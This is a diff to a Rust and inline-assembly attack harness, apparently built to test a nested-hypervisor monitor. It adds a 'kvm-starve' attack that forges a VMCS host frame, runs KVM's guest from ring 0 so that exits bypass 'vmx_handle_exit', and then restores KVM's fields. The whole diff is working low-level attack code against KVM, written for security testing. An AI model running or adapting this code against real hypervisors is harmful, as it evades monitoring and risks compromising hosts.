@@ -57,7 +57,11 @@
 //!     view in L1's list), with a #UD handler that reports the fault and goes on;
 //!   - `kvm-host-state`: take the `forge` foothold in ring 0, start the probe, and once KVM's vCPU
 //!     has its VMCS (a new region in RAM, as for `kvm-vmcs12-region`), VMWRITE its HOST_RIP to the
-//!     address of `_text`.
+//!     address of `_text`;
+//!   - `kvm-rogue-vmcs`: with the same foothold, VMLAUNCH a VMCS region of its own, then make
+//!     KVM's VMCS current again;
+//!   - `kvm-starve`: with the same foothold, run KVM's own VMCS from its code, 160 exits of L2 kept
+//!     from `vmx_handle_exit` (each before L2's first instruction), then put KVM's fields back.
 //!
 //! Each step is told to L0 on port 0xE9. A blocked write or read stops the guest: it never returns.
 
@@ -96,6 +100,7 @@ fn main() -> ExitCode {
             IhmiAttack::L2Vmfunc => kvm_l2_vmfunc(),
             IhmiAttack::HostState => kvm_host_state(&cmdline),
             IhmiAttack::RogueVmcs => kvm_rogue_vmcs(&cmdline),
+            IhmiAttack::Starve => kvm_starve(&cmdline),
         };
         return match result {
             Ok(()) => ExitCode::SUCCESS,
@@ -631,6 +636,75 @@ fn kvm_rogue_vmcs(cmdline: &str) -> Result<(), String> {
     Ok(())
 }
 
+/// 12.12, starving the monitor: KVM's guest run from code of the attacker's own, from ring 0 with
+/// interrupts off, so that none of its exits reaches `vmx_handle_exit` (payload op 6). Every entry
+/// is of KVM's registered VMCS, with the host state L0 checks being L1's own and HOST_RIP KVM's
+/// `vmx_vmexit`; the exits come before L2's first instruction, and every field the payload changes
+/// is put back, so that KVM's guest goes on as if nothing happened. `@vmx` in the forged frame is
+/// the kernel's zero page: `vmx_spec_ctrl_restore_host` reads `spec_ctrl` from it (if the CPU has
+/// the MSR) and writes nothing there with `@flags` 0.
+fn kvm_starve(cmdline: &str) -> Result<(), String> {
+    use ihmi_abi::attack::{IHMI_STARVE_EXITS, IHMI_STARVE_LINE};
+    let k = Kernel::learn()?;
+    let mem = open_mem()?;
+    let zero_page = k.symbol("empty_zero_page")?;
+    let (ring0, probe) = ring0_beside_probe(&k, &mem, cmdline)?;
+    say(&format!(
+        "ihmi-attack: running KVM's guest from ring 0, {IHMI_STARVE_EXITS} exits kept from vmx_handle_exit"
+    ));
+    // KVM's VMCS is current once it made it, but VMRESUME needs one KVM launched (error 5 before).
+    let mut outcome = Err("KVM's VMCS was never launched".to_string());
+    for _ in 0..50 {
+        for word in 4..16 {
+            ring0.set(word, 0);
+        }
+        ring0.set(2, IHMI_STARVE_EXITS);
+        ring0.set(3, zero_page);
+        if let Err(e) = ring0.run(6) {
+            outcome = Err(e);
+            break;
+        }
+        let (failed, vmcs, error) = (ring0.get(4), ring0.get(5), ring0.get(8));
+        outcome = match (vmcs, failed) {
+            (u64::MAX, _) => Err("no VMCS was current".to_string()),
+            (_, 0) => Ok(vmcs),
+            _ => Err(format!(
+                "VMRESUME of KVM's VMCS {vmcs:#x} failed (RFLAGS {failed:#x}, error {error})"
+            )),
+        };
+        if failed == 0 || error != 5 {
+            break;
+        }
+        std::thread::sleep(std::time::Duration::from_millis(1));
+    }
+    ring0.leave(&mem)?;
+    let vmcs = match outcome {
+        Ok(vmcs) => vmcs,
+        Err(e) => {
+            let _ = probe.wait_with_output();
+            return Err(e);
+        }
+    };
+    let (exits, reason, restored) = (ring0.get(6), ring0.get(7), ring0.get(15));
+    say(&format!(
+        "ihmi-attack: KVM's VMCS {vmcs:#x}: {exits} exits of its guest came back to me (the last of reason {reason}); its fields put back (RFLAGS bits {restored:#x})"
+    ));
+    say(&format!(
+        "{IHMI_STARVE_LINE}{vmcs:#x} {exits:#x} {reason:#x} {restored:#x}"
+    ));
+    let status = probe
+        .wait_with_output()
+        .map_err(|e| format!("waiting for the probe: {e}"))?
+        .status;
+    say(&format!(
+        "ihmi-attack: the probe ended after my VMRESUMEs ({status})"
+    ));
+    if !status.success() {
+        return Err(format!("KVM's probe failed after the VMRESUMEs ({status})"));
+    }
+    Ok(())
+}
+
 fn kernel_text() -> Result<(), String> {
     let k = Kernel::learn()?;
     let mem = open_mem()?;
@@ -1033,7 +1107,12 @@ fn nmi() -> Result<(), String> {
 // RFLAGS after it into word 4; 5 = with interrupts off, the current VMCS's address into word 5
 // (VMPTRST), VMCLEAR and VMPTRLD of the region at word 2, VMLAUNCH, RFLAGS after it into word 4
 // and the VM-instruction error into word 6, VMCLEAR of that region, then VMPTRLD of word 5's again
-// (unless there was none), RFLAGS after it into word 7. It returns 0 with nothing read.
+// (unless there was none), RFLAGS after it into word 7; 6 = run the current VMCS's guest (KVM's)
+// from here, word 2 times (the `kvm-starve` attack, see `kvm_starve`), with word 3 for `@vmx` in the
+// forged frame: the VMCS into word 5 (-1: none), RFLAGS and the VM-instruction error of a VMRESUME
+// that failed into words 4 and 8, the exits taken into word 6, the last one's basic reason into
+// word 7, the fields it changes saved in words 9 to 14 and put back, the OR of RFLAGS after those
+// VMWRITEs into word 15. It returns 0 with nothing read.
 core::arch::global_asm!(
     r#"
     .section .rodata.ihmi_forge, "a"
@@ -1055,6 +1134,8 @@ ihmi_forge_code:
     je 4f
     cmp $5, %rdi
     je 5f
+    cmp $6, %rdi
+    je 60f
     jmp 9f
 1:  mov 16(%rax), %rdi
     mov 24(%rax), %rsi
@@ -1103,13 +1184,175 @@ ihmi_forge_code:
     pop %rdx
     mov %rdx, 56(%rcx)
 6:  popfq
+    jmp 9f
+    // Operation 6. KVM's VMRESUME runs in `__vmx_vcpu_run`, and the exit comes back to its
+    // `vmx_vmexit` (HOST_RIP), which saves L2's registers at the `@regs` it finds on the stack, pops
+    // `@flags` and `@vmx` for `vmx_spec_ctrl_restore_host`, then RBX, R12-R15 and RBP, and returns.
+    // So a frame of that shape at HOST_RSP brings each exit back here.
+60: pushfq
+    cli
+    push %rbp
+    push %r12
+    push %r13
+    push %r14
+    push %r15
+    lea ihmi_forge_data(%rip), %r12
+    movq $-1, 40(%r12)
+    vmptrst 40(%r12)
+    cmpq $-1, 40(%r12)
+    je 69f
+    // KVM's values of what changes: HOST_RSP, HOST_CR3, HOST_FS_BASE, the primary processor-based
+    // controls, L2's RFLAGS and interruptibility state.
+    mov $0x6c14, %eax
+    vmread %rax, 72(%r12)
+    mov $0x6c02, %eax
+    vmread %rax, 80(%r12)
+    mov $0x6c06, %eax
+    vmread %rax, 88(%r12)
+    mov $0x4002, %eax
+    vmread %rax, 96(%r12)
+    mov $0x6820, %eax
+    vmread %rax, 104(%r12)
+    mov $0x4824, %eax
+    vmread %rax, 112(%r12)
+    // The host state L0 compares with L1's at each entry: this address space and this process's
+    // FS base (HOST_RSP is written before each VMRESUME).
+    mov %cr3, %rdx
+    mov $0x6c02, %eax
+    vmwrite %rdx, %rax
+    mov $0xc0000100, %ecx
+    rdmsr
+    shl $32, %rdx
+    or %rax, %rdx
+    mov $0x6c06, %eax
+    vmwrite %rdx, %rax
+    // An exit before L2's first instruction, so that L2 never runs a step with these registers:
+    // interrupt-window exiting, with L2's IF set and no STI or MOV SS blocking.
+    mov 96(%r12), %rdx
+    or $4, %rdx
+    mov $0x4002, %eax
+    vmwrite %rdx, %rax
+    mov 104(%r12), %rdx
+    or $0x200, %rdx
+    mov $0x6820, %eax
+    vmwrite %rdx, %rax
+    xor %edx, %edx
+    mov $0x4824, %eax
+    vmwrite %rdx, %rax
+    mov 16(%r12), %r13
+    xor %r14d, %r14d
+    // Where `vmx_vmexit` saves L2's registers.
+    sub $128, %rsp
+    mov %rsp, %r15
+61: lea 62f(%rip), %rax
+    push %rax
+    push %rbp
+    push %r15
+    push %r14
+    push %r13
+    push %r12
+    push %rbx
+    pushq 24(%r12)
+    pushq $0
+    push %r15
+    mov $0x6c14, %eax
+    vmwrite %rsp, %rax
+    vmresume
+    pushfq
+    pop %rax
+    mov %rax, 32(%r12)
+    mov $0x4400, %eax
+    vmread %rax, 64(%r12)
+    add $80, %rsp
+    jmp 66f
+62: inc %r14
+    mov $0x4402, %eax
+    vmread %rax, %rdx
+    movzwl %dx, %edx
+    mov %rdx, 56(%r12)
+    cmp $7, %edx
+    je 65f
+    cmp $1, %edx
+    jne 66f
+    // An interrupt of L1's, acknowledged on exit: L1's own handler takes it, as KVM would hand it
+    // on (an interrupt frame built by hand, the gate from the IDT).
+    mov $0x4404, %eax
+    vmread %rax, %rdx
+    bt $31, %edx
+    jnc 65f
+    movzbl %dl, %edx
+    shl $4, %rdx
+    sub $16, %rsp
+    sidt (%rsp)
+    mov 2(%rsp), %rax
+    add $16, %rsp
+    add %rdx, %rax
+    movzwl (%rax), %ecx
+    movzwl 6(%rax), %edx
+    shl $16, %edx
+    or %edx, %ecx
+    mov 8(%rax), %edx
+    shl $32, %rdx
+    or %rcx, %rdx
+    mov %rsp, %rbp
+    and $-16, %rsp
+    pushq $0x18
+    push %rbp
+    pushfq
+    pushq $0x10
+    call *%rdx
+    mov %rbp, %rsp
+65: dec %r13
+    jnz 61b
+66: add $128, %rsp
+    mov %r14, 48(%r12)
+    // KVM's fields back, as its caches of them say they are.
+    xor %r13d, %r13d
+    mov $0x6c14, %eax
+    vmwrite 72(%r12), %rax
+    pushfq
+    pop %rcx
+    or %rcx, %r13
+    mov $0x6c02, %eax
+    vmwrite 80(%r12), %rax
+    pushfq
+    pop %rcx
+    or %rcx, %r13
+    mov $0x6c06, %eax
+    vmwrite 88(%r12), %rax
+    pushfq
+    pop %rcx
+    or %rcx, %r13
+    mov $0x4002, %eax
+    vmwrite 96(%r12), %rax
+    pushfq
+    pop %rcx
+    or %rcx, %r13
+    mov $0x6820, %eax
+    vmwrite 104(%r12), %rax
+    pushfq
+    pop %rcx
+    or %rcx, %r13
+    mov $0x4824, %eax
+    vmwrite 112(%r12), %rax
+    pushfq
+    pop %rcx
+    or %rcx, %r13
+    and $0x41, %r13
+    mov %r13, 120(%r12)
+69: pop %r15
+    pop %r14
+    pop %r13
+    pop %r12
+    pop %rbp
+    popfq
 9:  movq $0, (%rbx)
     xor %eax, %eax
     pop %rbx
     ret
     .balign 64
 ihmi_forge_data:
-    .fill 8, 8, 0
+    .fill 16, 8, 0
     .global ihmi_forge_end
 ihmi_forge_end:
 "#,
@@ -1130,7 +1373,7 @@ fn forge_payload() -> (&'static [u8], usize) {
     );
     let len = end as usize - start as usize;
     // SAFETY: `len` bytes of read-only data from `start`.
-    (unsafe { std::slice::from_raw_parts(start, len) }, len - 64)
+    (unsafe { std::slice::from_raw_parts(start, len) }, len - 128)
 }
 
 /// Where the attacker's page shows up in the kernel: the direct map's PML4 slot (273, as Linux
